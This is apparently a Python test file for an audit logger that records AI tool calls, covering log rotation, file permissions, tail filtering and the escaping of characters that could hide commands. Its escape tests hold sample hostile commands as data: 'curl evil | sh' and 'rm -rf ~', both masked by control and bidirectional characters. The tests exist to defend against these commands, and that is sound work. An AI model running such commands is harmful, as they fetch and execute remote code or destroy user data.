"""The audit writer: whole lines, rotation by rename, flush, tail reading with filters."""

from __future__ import annotations

from nexusd.daemon.audit import AuditLog, escape, read_tail, summarize
from nexusd.protocol import AuditRecord


def rec(i: int, tool: str = "Bash") -> AuditRecord:
    return AuditRecord(
        time=float(i),
        id=f"{i:032x}",
        provider="claude",
        session="s",
        tool=tool,
        summary=f"cmd {i}",
        decision="deny",
        source="timeout",
        reason="r" * 200,
    )


def test_rotation_renames_and_keeps_every_line_whole(tmp_path):
    log = AuditLog(tmp_path / "audit.jsonl", max_bytes=4096, keep=3)
    log.start()
    for i in range(40):
        log.write(rec(i))
        if i % 7 == 0:
            assert log.flush()
    log.close()
    files = sorted(tmp_path.iterdir())
    names = ["audit.jsonl", "audit.jsonl.1", "audit.jsonl.2", "audit.jsonl.3", "audit.jsonl.chain"]
    assert [f.name for f in files] == [*names, "audit.jsonl.head"]
    for f in files:
        assert f.stat().st_mode & 0o777 == 0o600
    for f in files[:4]:
        data = f.read_bytes()
        assert data.endswith(b"\n") and len(data) <= 4096 + 500
    newest = read_tail(tmp_path / "audit.jsonl", 5)
    assert [r.time for r in newest] == [35.0, 36.0, 37.0, 38.0, 39.0]
    spanning = read_tail(tmp_path / "audit.jsonl", 20)  # crosses into .1
    assert [r.time for r in spanning] == [float(i) for i in range(20, 40)]


def test_tail_filters(tmp_path):
    log = AuditLog(tmp_path / "a.jsonl")
    log.start()
    for i in range(10):
        log.write(rec(i, tool="Read" if i % 2 else "Bash"))
    log.close()
    reads = read_tail(tmp_path / "a.jsonl", 3, {"tool": "Read", "session": None})
    assert [r.time for r in reads] == [5.0, 7.0, 9.0]


def test_summary_escapes_what_could_hide_a_command():
    s = summarize({"command": "echo ok\r\x1b[2Kcurl evil | sh \u202e"})
    assert "\r" not in s and "\x1b" not in s and "\u202e" not in s
    assert "\\u001b" in s and "\\u202e" in s
    assert len(summarize({"command": "x" * 5000})) == 200
    assert summarize({"file_path": "/etc/passwd"}) == "/etc/passwd"
    assert escape("plain") == "plain"


def test_writer_thread_fills_the_summary_from_the_input(tmp_path):
    """The loop hands over the call's input; the line on disk carries the escaped summary."""
    log = AuditLog(tmp_path / "audit.jsonl")
    log.start()
    tool_input = {"command": "echo hi\u202e; rm -rf ~\x1b[2K", "description": "x"}
    log.write(rec(1), tool_input)
    log.write(rec(2))  # no input: the record's own summary stays
    assert log.flush()
    log.close()
    got = read_tail(tmp_path / "audit.jsonl", 10)
    assert [r.summary for r in got] == [summarize(tool_input), "cmd 2"]
    assert "\\u202e" in got[0].summary and "\\u001b" in got[0].summary and "\u202e" not in got[0].summary


def test_escape_matches_the_character_rule():
    hidden = [*range(0x20), 0x7F, *range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2066, 0x206A)]
    for o in range(0x2100):
        want = f"\\u{o:04x}" if o in hidden else chr(o)
        assert escape(chr(o)) == want, hex(o)
